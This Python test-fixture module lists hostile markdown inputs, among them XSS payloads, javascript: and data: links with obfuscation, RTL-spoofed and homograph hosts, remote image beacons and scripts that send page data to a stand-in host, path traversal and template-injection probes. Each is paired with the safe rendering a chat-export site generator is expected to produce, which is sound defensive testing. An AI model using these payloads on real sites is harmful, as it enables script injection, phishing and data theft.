"""Messages that try to become more than text: markup, addresses, code, formulas, characters, what providers hide.

Each is said in every place that the model has (`hostile_pages.everywhere`); its words must all be on the page, the
page's own elements must be whole, and nothing may run, load or lead away.
"""

from __future__ import annotations

from hostile_cases import Case

#: What a script sets that ran, and a host that nothing may ask.
OWNED = "window.OWNED=1"
OUTSIDE = "https://outside.example"

TEXT = "shown as the text that it is: no element, no script, no request"
REFUSED = "no link, the address beside it as text"
NO_PICTURE = "its description and its address in place of the picture, zero requests"


def _case(name: str, payload: str, expected: str = TEXT) -> Case:
    return Case(name, "markdown", payload, expected)


_MARKUP = (
    _case("html-script", f"Look: <script>{OWNED}</script>"),
    _case("html-script-src", f"<script src={OUTSIDE}/s.js></script><script src=../../files/x.txt></script>"),
    _case("html-script-in-pieces", f"<scr<script>ipt>{OWNED}</scr</script>ipt>"),
    _case("html-script-after-comment", f"</script><!--<script>{OWNED}//--></script>"),
    _case("html-ends-title-and-style", f"</title></style></textarea><script>{OWNED}</script>"),
    _case("html-ends-page", "</p></div></details></article></main></body></html>", "the page's frame stays whole"),
    _case("html-opens-comment", "<!-- the rest of the page is", "what follows stays visible"),
    _case("html-img-onerror", f"<img src=nowhere onerror={OWNED}>"),
    _case("html-svg-onload", f"\"><svg/onload={OWNED}><animate onbegin={OWNED} attributeName=x dur=1s>"),
    _case("html-focus", f"' autofocus onfocus={OWNED} x='"),
    _case("html-details-toggle", f"<details open ontoggle={OWNED}><summary>open</summary>"),
    _case(
        "html-mutates-in-math",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={OWNED}&gt;'>",
    ),
    _case("html-mutates-in-noscript", f"<noscript><p title='</noscript><img src=x onerror={OWNED}>'>"),
    _case("html-base", f"<base href='{OUTSIDE}/'>\n\n[relative](x.html)", "no base, no link"),
    _case("html-refresh", f"<meta http-equiv=refresh content='0;url={OUTSIDE}/refresh'>", "the page stays"),
    _case(
        "html-second-policy", "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">"
    ),
    _case("html-stylesheet", f"<link rel=stylesheet href={OUTSIDE}/a.css><style>@import '{OUTSIDE}/b.css'</style>"),
    _case("html-style-attribute", f"<p style=\"position:fixed;inset:0;background:url({OUTSIDE}/c)\">over all</p>"),
    _case(
        "html-srcset",
        f"<img srcset='{OUTSIDE}/s 1x'><picture><source srcset='{OUTSIDE}/t 1x'><img></picture>"
        f"<video poster={OUTSIDE}/v></video>",
        "no picture or source: preload scanners have asked for these before they looked at the policy",
    ),
    _case("html-preload", f"<link rel=preload as=image href={OUTSIDE}/p><link rel=dns-prefetch href={OUTSIDE}>"),
    _case(
        "html-frames",
        f"<iframe srcdoc='<script>parent.OWNED=1</script>'></iframe><object data='data:text/html,{OWNED}'></object>"
        f"<embed src={OUTSIDE}/e><portal src={OUTSIDE}/f></portal>",
    ),
    _case("html-form", f"<form action={OUTSIDE}/ id=main><input name=sitegen autofocus onfocus={OWNED}></form>"),
    _case(
        "html-names-of-objects",
        "<a id=location></a><form name=getElementById></form><img name=body><a id=sitegen name=sitegen></a>",
        "no id or name that scripts of the page could take for their own",
    ),
    _case("html-swallows-the-rest", "<plaintext><xmp><!-- <![CDATA[ <?php <!DOCTYPE x>"),
    _case("html-template", f"<template shadowrootmode=open><script>{OWNED}</script></template><slot name=x></slot>"),
    _case(
        "entities", "&lt;script&gt; &#60;script&#62; &amp;lt; &#x202e; &#0; &#xD800;", "as characters, never as markup"
    ),
)  # fmt: skip

_ADDRESSES = (
    _case("link-javascript", f"[one](javascript:{OWNED}) [two](JaVaScRiPt:{OWNED}) <javascript:{OWNED}>", REFUSED),
    _case(
        "link-javascript-entities",
        f"[one](java&#9;script:{OWNED}) [two](&#10;javascript:{OWNED}) [three](javascript&colon;{OWNED}) "
        f"[four](&#x6A;avascript:{OWNED}) [five](java&Tab;script:{OWNED})",
        REFUSED,
    ),
    _case("link-javascript-blanks", f"[one](<  javascript:{OWNED}>) [two](\x01javascript:{OWNED})", REFUSED),
    _case("link-javascript-reference", f"[one][two]\n\n[two]: javascript:{OWNED} 'its title'", REFUSED),
    _case("link-javascript-newline", "[one](<javascript://a.example/%0awindow.OWNED=1>)", REFUSED),
    _case(
        "link-other-schemes",
        f"[one](data:text/html,<script>{OWNED}</script>) [two](vbscript:x) [three](blob:null/x) [four](about:blank) "
        "[five](filesystem:http://x/) [six](intent://x#Intent;end) [seven](ms-msdt:/id) [eight](search-ms:query=x)",
        REFUSED,
    ),
    _case(
        "link-programs",
        "[one](view-source:file:///etc/hosts) [two](vscript:x) [three](tel:1) [four](ftp://outside.example/) "
        "[five](vscode://file/x) [six](file:///etc/hosts) [seven](smb://outside.example/x) [eight](x-apple:y)",
        REFUSED,
    ),
    _case("link-data-picture", "[one](data:image/png;base64,AAAA) [two](data:image/svg+xml;base64,PHN2Zz4=)", REFUSED),
    _case(
        "link-outside-path",
        "[one](//outside.example/x) [two](\\\\outside.example\\x) [three](../../../../etc/passwd) [four](/etc/hosts)",
        "no link out of the site: from disk it would ask another machine, or open any file",
    ),
    _case("link-to-other-page", "[one](../../index.html) [two](#main) [three](?q=x) [four](x.html#y)", REFUSED),
    _case(
        "link-quotes", f"[one]({OUTSIDE}/\"onmouseover=\"{OWNED}) [two]({OUTSIDE} 'x\" onclick=\"{OWNED}')",
        "address and title stay in their attributes",
    ),
    _case(
        "link-other-host",
        f"[https://bank.example]({OUTSIDE}/) [bank.example]({OUTSIDE}/x) [x](https://bank.example@outside.example/)",
        "the host that it leads to is told beside it",
    ),
    _case(
        "link-backslash-host",
        "[https://bank.example](https:\\\\outside.example\\x) [two](<https://bank.example\\\\@outside.example/>)",
        "read as browsers read it",
    ),
    _case(
        "link-invisible-host", f"[one](<ht\u200btps://out\u2060side.example/\u202egnp.exe>) [two]({OUTSIDE}/\u200bx)",
        "no invisible character in the address or beside it",
    ),
    _case(
        "link-international-host", "[x](https://\u0430pple.example) https://\u0430pple.example", "in its ASCII form"
    ),
    _case("link-longer-than-life", f"[x]({OUTSIDE}/{'y' * 9000})", "whole, or as text"),
    _case(
        "bare-address-quotes",
        f"{OUTSIDE}/\"onclick=\"{OWNED} www.outside.example/'onclick='{OWNED} <{OUTSIDE}/\"x>",
        "the link ends before the quote",
    ),
    _case("bare-address-marks", f"{OUTSIDE}/<b>x</b> {OUTSIDE}/`x` {OUTSIDE}/*x*[y](javascript:z)"),
    _case(
        "picture-remote",
        f"![one]({OUTSIDE}/p.png?words=secret) ![two][three]\n\n[three]: {OUTSIDE}/q.png", NO_PICTURE,
    ),
    _case("picture-remote-in-link", f"[![one]({OUTSIDE}/p.png)]({OUTSIDE}/x) ![](//outside.example/z.gif)", NO_PICTURE),
    _case("picture-data", "![one](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5PV05FRD0xIi8+)", NO_PICTURE),
    _case("picture-quotes", f"![\" onerror={OWNED} x=\"](y.png) ![z](y.png '\" onerror=\"{OWNED}')", NO_PICTURE),
    _case("picture-of-disk", "![one](file:///etc/hosts) ![two](../../../etc/hosts.png) ![three](/x.png)", NO_PICTURE),
)  # fmt: skip

_BLOCKS = (
    _case(
        "fence-info", f"```\"><img src=x onerror={OWNED}>\ncode of it\n```",
        "the word behind a fence never makes a class, and is text in the caption",
    ),
    _case("fence-attributes", f"~~~{{.python onclick={OWNED}}}\n</code></pre><script>{OWNED}</script>\n~~~"),
    _case("fence-html", "```html\n<!-- <script>\n</script> -->\n```\n\n    <b>indented</b>\n\n`<i>inline</i>`"),
    _case("fence-rare-language", "```make\nall: it\n\tcc it.c\n```\n\n```adl\naaaa\n```\n", "shown without colours"),
    _case("fence-of-blanks", "```json\n[1," + " " * 400 + "2]\n```", "shown without colours: lexers stumble over it"),
    _case("fence-of-one-line", "```json\n[" + '"ab", ' * 400 + "0]\n```", "shown without colours"),
    _case("fence-never-ends", f"````python\n```\n<script>{OWNED}</script>\nx = 1", "the rest is code"),
    _case("table-alignment", "|a|b|\n|:-:|-:|\n|one|two|", "aligned by a class, without a style"),
    _case(
        "table-cells",
        f"|a|b|\n|:-:|-:|\n|<img src=x onerror={OWNED}>|c|left over|\n\n- [x] <b>done</b>\n- [ ] \"open",
        "nothing of a row is lost",
    ),
    _case(
        "footnotes", f"note[^1] and [^\"><b>\n\n[^1]: <script>{OWNED}</script>\n\n[^\"><b>]: x",
    ),
    _case("heading-id", "# main\n\n## sitegen {#main .x onclick=y}\n\n# location", "its id tells nothing of its words"),
    _case("deep-quotes", "> " * 150 + "deep down", "all words, nested or as it stands"),
    _case("deep-lists", "".join("  " * depth + f"- level{depth}\n" for depth in range(60)), "all sixty levels"),
    _case("math-elements", f"$</math><script>{OWNED}</script>$ $\\text{{</mtext><img src=x>}}$"),
    _case(
        "math-addresses",
        f"\\(\\href{{javascript:{OWNED}}}{{x}}\\) $$\\includegraphics{{{OUTSIDE}/m}}$$ $\\url{{javascript:y}}$",
        "nothing of a formula leads anywhere",
    ),
    _case(
        "math-styles",
        "\\[\\style{position:fixed}{y}\\] $\\class{a\" onclick=\"b}{z}$ $\\color{red;x:url(y)}{z}$ $\\cssId{main}{w}$",
        "no style, class or id",
    ),
    _case("math-characters", "$\\unicode{x3c}b\\unicode{x3e}$ $\\char60 script\\char62$ $\\rule{9999em}{9999em}$"),
    _case("math-definitions", "$\\def\\a{\\a\\a}\\a$ $\\newcommand{\\b}{\\b}\\b$ $\\gdef\\c#1{\\c{#1#1}}\\c{x}$"),
    _case("template-language", "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} <%= 7*7 %> #{7*7}", "as it stands"),
)  # fmt: skip

_CHARACTERS = (
    _case(
        "controls", "one\0two\x07three\x1b]8;;https://outside.example\x1b\\four\x7f\x85\u2028five\u2029six\ufffe",
        "control characters as pictures of their names",
    ),
    _case("half-pairs", "half \ud800 of \udfff a pair", "a stand-in for each"),
    _case("code-with-controls", "`\x1b]0;title\x07\x1b[31m`\n\n```python\nx = '\x1b[2J\x9b'\n```", "visible"),
    _case(
        "direction-marks", "invoice \u202egnp.exe\u2066 and \u200bzero\u2060width\ufeff",
        "the direction of nothing beside it changes",
    ),
    _case(
        "direction-of-host", f"\u202e[https://bank.example]({OUTSIDE}/) ![x]({OUTSIDE}/y) note[^1]\n\n[^1]: \u202eend",
        "the host beside a link reads as it is, not backwards",
    ),
    _case("stacked-marks", "e" + "\u0301" * 300 + " " + "\U0001f468\u200d" * 50, "paints over no other message"),
    _case(
        "private-characters",
        "\U000f0000 private \U00100000 planes \ue200cite\ue202turn0search0\ue201 \u30100\u2020source\u3011",
        "never taken for the site's own marks",
    ),
    _case("one-long-word", "a" * 5_000, "wrapped"),
    _case("only-blanks", "   ", "no message without a word is invented"),
    _case("nothing", "", "an empty place"),
)  # fmt: skip

_PROVIDERS = (
    _case(
        "hidden-render-call",
        "<grok:render card_id='x'><argument name='citation_id'>\"><b></argument></grok:render>",
    ),
    _case(
        "hidden-tool-call",
        f"<xai:tool_usage_card><xai:tool_args><![CDATA[{{\"q\":\"<script>{OWNED}</script>\"}}]]></xai:tool_args>",
    ),
    _case(
        "hidden-artifact",
        f"<antArtifact identifier='x' type='text/html' title='</script>'><script>{OWNED}</script></antArtifact>",
    ),
    _case("hidden-citation", "[citation:1][citation:99999999999999999999]"),
    _case("hidden-json", '{"content": "<b>", "queries": [{"q": "<i>"}], "__proto__": null}'),
    _case("artifact-reaches-page", "<!doctype html><script>parent.OWNED=1;top.OWNED=1</script>", "shut in its frame"),
    _case(
        "artifact-leaves",
        f"<!doctype html><img src={OUTSIDE}/a.png><script>location='{OUTSIDE}/?'+document.title</script>",
        "shown as source; where it runs it reaches nothing",
    ),
    _case(
        "artifact-leaves-plainly",
        "<!doctype html><meta http-equiv=refresh content='0;url=http://refresh.example/'>"
        "<script>location='http://plain.example/?'+document.title</script>",
        "shown as source; where it runs it reaches nothing",
    ),
)  # fmt: skip

CASES = (*_MARKUP, *_ADDRESSES, *_BLOCKS, *_CHARACTERS, *_PROVIDERS)
